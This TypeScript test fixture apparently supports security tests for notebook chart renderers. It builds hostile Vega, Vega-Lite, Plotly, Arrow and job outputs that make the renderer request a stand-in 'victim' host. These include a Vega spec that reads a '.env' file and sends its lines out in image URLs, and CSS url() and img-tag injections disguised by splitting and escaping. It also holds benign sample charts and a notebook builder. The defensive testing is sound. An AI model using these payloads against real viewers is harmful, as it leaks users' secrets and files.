import { makeData, Binary, Field, RecordBatch, Schema, Struct, Table, tableToIPC, Utf8, vectorFromArray } from '#arrow';
import { jobOutputMime } from '#shared/jobs/jobOutput.ts';
import { arrowStreamMime } from '#shared/mime.ts';
import { someJob } from '../../unit/extension/jobs/someJob.ts';

/** A saved output: the attack, its MIME type and its content. */
type SavedOutput = { readonly name: string; readonly mime: string; readonly content: unknown };

const output = (mime: string, name: string, content: unknown): SavedOutput => ({ name, mime, content });

const marks = (type: string, enter: object) => ({ width: 60, height: 30, marks: [{ type, encode: { enter } }] });

const lite = (mark: unknown, more: object) => ({ height: 40, data: { values: [{ a: 1 }] }, mark, ...more });

const figure = (layout: object, traces: object[] = [{ y: [1, 2] }]) => ({
  data: traces,
  layout: { width: 300, height: 90, margin: { l: 20, r: 20, t: 20, b: 20 }, ...layout },
});

/** An image of one pixel. */
export const pixel =
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

const vega = 'application/vnd.vega.v6+json';
const vegaLite = 'application/vnd.vegalite.v6+json';
const plotly = 'application/vnd.plotly.v1+json';

/** Returns outputs of every type that our renderers draw. Each of them requests addresses below `victim`, or `.env`. */
export function hostileOutputs(victim: string): SavedOutput[] {
  const secure = victim.replace('http:', 'https:');
  const image = (name: string) => `${victim}/${name}.png`;
  const css = (name: string) => `url(${victim}/${name}.svg#a)`;
  const rect = { x: { value: 0 }, y: { value: 0 }, width: { value: 40 }, height: { value: 20 } };
  const sendFile = {
    width: 60,
    height: 30,
    data: [{ name: 'file', url: '.env', format: { type: 'dsv', delimiter: '\u0001' } }],
    marks: [
      {
        type: 'image',
        from: { data: 'file' },
        encode: { enter: { ...rect, url: { signal: `'${victim}/file?' + datum.NAME` } } },
      },
    ],
  };
  const versions = ['vegalite.v4', 'vegalite.v5', 'vegalite.v6', 'vega.v5', 'vega.v6'].map((version) => ({
    name: `data of ${version}`,
    mime: `application/vnd.${version}+json`,
    content: version.startsWith('vegalite')
      ? { height: 40, mark: 'bar', data: { url: `${secure}/${version}.json` }, encoding: { x: { field: 'a' } } }
      : { width: 60, height: 30, data: [{ name: 'a', url: `${secure}/${version}.json` }] },
  }));
  return [
    ...versions,
    output(vega, 'a file beside the notebook', sendFile),
    output(vega, 'an image', marks('image', { ...rect, url: { value: image('vega-image') } })),
    output(vega, 'a fill', marks('rect', { ...rect, fill: { signal: `'ur' + 'l(${victim}/vega-fill.svg#a)'` } })),
    output(vega, 'a stroke as an array', marks('rect', { ...rect, stroke: { value: [css('vega-stroke')] } })),
    output(vega, 'a pointer', {
      ...marks('rect', rect),
      signals: [{ name: 'cursor', value: `url(${image('vega-cursor')}), auto` }],
    }),
    output(
      vega,
      'a tooltip',
      marks('rect', {
        ...rect,
        description: { value: 'tip' },
        tooltip: { signal: `{ title: 'tip <b>', image: '${image('vega-tooltip')}' }` },
      }),
    ),
    output(vega, 'an input', {
      ...marks('rect', rect),
      signals: [{ name: 'a', value: 1, bind: { input: 'image', src: image('vega-input') } }],
    }),
    output(vega, 'the style of an input', {
      ...marks('rect', rect),
      signals: [{ name: 'a', value: 1, bind: { input: 'text', style: `background: ${css('vega-style')}` } }],
    }),
    output(vegaLite, 'options of the page', {
      ...lite('bar', {}),
      usermeta: { embedOptions: { loader: { target: '_self' }, config: `${secure}/options.json`, ast: false } },
    }),
    output(vegaLite, 'code', {
      ...lite('bar', { params: [{ name: 'p', expr: `1` }] }),
      usermeta: { embedOptions: { ast: false, patch: `${secure}/patch.json` } },
    }),
    output(vegaLite, 'a description elsewhere', JSON.stringify(`${secure}/spec.json`)),
    output(plotly, 'an image', figure({ images: [{ source: image('plotly-image'), x: 0, y: 1, sizex: 1, sizey: 1 }] })),
    output(plotly, 'an image of the template', {
      ...figure({ template: { layout: { images: [{ source: image('plotly-template') }] } }, images: [{ x: 0, y: 1 }] }),
    }),
    output(plotly, 'an image trace', figure({}, [{ type: 'image', source: image('plotly-trace') }])),
    output(
      plotly,
      'the style of text',
      figure({
        title: { text: `<span style="cursor:${css('plotly-text')};filter:${css('plotly-filter')}">text</span>` },
      }),
    ),
    output(
      plotly,
      'text in parts',
      figure({ xaxis: { tickprefix: '<span style="cursor:ur', ticksuffix: `l(${victim}/plotly-parts.svg#a)">x` } }),
    ),
    output(
      plotly,
      'escaped style',
      figure({ title: { text: `<span style="cursor:u\\72l(${victim}/plotly-escaped.png), auto">text</span>` } }),
    ),
    output(
      plotly,
      'a color',
      figure({ modebar: { bgcolor: `rgb(1,2,3);background:${css('plotly-color')}` } }, [
        { y: [1, 2], line: { color: `${css('plotly-line')} rgb(1,2,3)` } },
      ]),
    ),
    output(plotly, 'the outlines of a map', figure({}, [{ type: 'scattergeo', lon: [0], lat: [0] }])),
    output(plotly, 'outlines from a server', {
      ...figure({}, [{ type: 'scattergeo', lon: [0], lat: [0] }]),
      config: { topojsonURL: `${secure}/topojson/`, plotlyServerURL: secure },
    }),
    output(
      plotly,
      'GeoJSON',
      figure({}, [{ type: 'choropleth', geojson: `${secure}/geo.json`, locations: ['a'], z: [1] }]),
    ),
    output(
      plotly,
      'tiles',
      figure({ map: { style: `${secure}/style.json` } }, [{ type: 'scattermap', lon: [0], lat: [0] }]),
    ),
    output(arrowStreamMime, 'a table', tableOutput(victim)),
    output(jobOutputMime, 'a job', {
      version: 1,
      job: someJob({
        state: 'failed',
        errors: { count: 1, samples: [{ fragment: 0, row: 0, message: `<img src="${image('job')}">`, inputs: {} }] },
        bottleneck: `<img src="${image('job-bottleneck')}">`,
      }),
    }),
  ];
}

/** Returns a table with text that looks like HTML, and an image that refers to other images. */
function tableOutput(victim: string): string {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><image href="${victim}/table-image.png"/></svg>`;
  const fields = [
    new Field('<img src=x>', new Utf8(), true),
    new Field('picture', new Binary(), true, new Map([['mime', 'image/svg+xml']])),
  ];
  const schema = new Schema(fields);
  const children = [
    vectorFromArray([`<img src="${victim}/table-text.png">`], new Utf8()).data[0]!,
    vectorFromArray([new TextEncoder().encode(svg)], new Binary()).data[0]!,
  ];
  const row = makeData({ type: new Struct(fields), length: 1, nullCount: 0, children });
  return Buffer.from(tableToIPC(new Table(schema, [new RecordBatch(schema, row)]), 'stream')).toString('base64');
}

/** Charts that contain all of their data. */
export const innocentOutputs: readonly SavedOutput[] = [
  {
    name: 'Vega-Lite',
    mime: vegaLite,
    content: {
      height: 40,
      title: 'Own data',
      data: { url: 'data:text/csv,kind%2Cn%0Amug%2C3%0Aplate%2C7%0A', format: { type: 'csv' } },
      mark: 'bar',
      encoding: {
        x: { field: 'n', type: 'quantitative' },
        y: { field: 'kind' },
        href: { value: 'https://example.org/chart' },
      },
    },
  },
  {
    name: 'Vega',
    mime: vega,
    content: {
      width: 60,
      height: 30,
      marks: [
        { type: 'image', encode: { enter: { url: { value: pixel }, width: { value: 9 }, height: { value: 9 } } } },
      ],
    },
  },
  {
    name: 'Plotly',
    mime: plotly,
    content: {
      data: [{ x: ['mug', '<5'], y: [3, 7], type: 'bar' }],
      layout: {
        title: { text: '<b>Own</b> <span style="color:teal">figure</span>' },
        images: [{ source: pixel, xref: 'paper', yref: 'paper', x: 0, y: 1, sizex: 0.1, sizey: 0.1 }],
        annotations: [
          { text: '<a href="https://example.org/figure">more</a>', xref: 'paper', yref: 'paper', x: 1, y: 1 },
        ],
        width: 400,
        height: 160,
      },
    },
  },
];

/** Returns the text of a notebook with each output in a separate cell. */
export function notebookWithOutputs(outputs: readonly SavedOutput[]): string {
  return JSON.stringify({
    cells: outputs.map(({ name, mime, content }, index) => ({
      cell_type: 'code',
      execution_count: index + 1,
      id: `c${index}`,
      metadata: {},
      outputs: [{ output_type: 'display_data', metadata: {}, data: { [mime]: content } }],
      source: `// ${name}`,
    })),
    metadata: {
      kernelspec: { name: 'lance-typescript', display_name: 'Lance TypeScript', language: 'typescript' },
      language_info: { name: 'typescript' },
    },
    nbformat: 4,
    nbformat_minor: 5,
  });
}
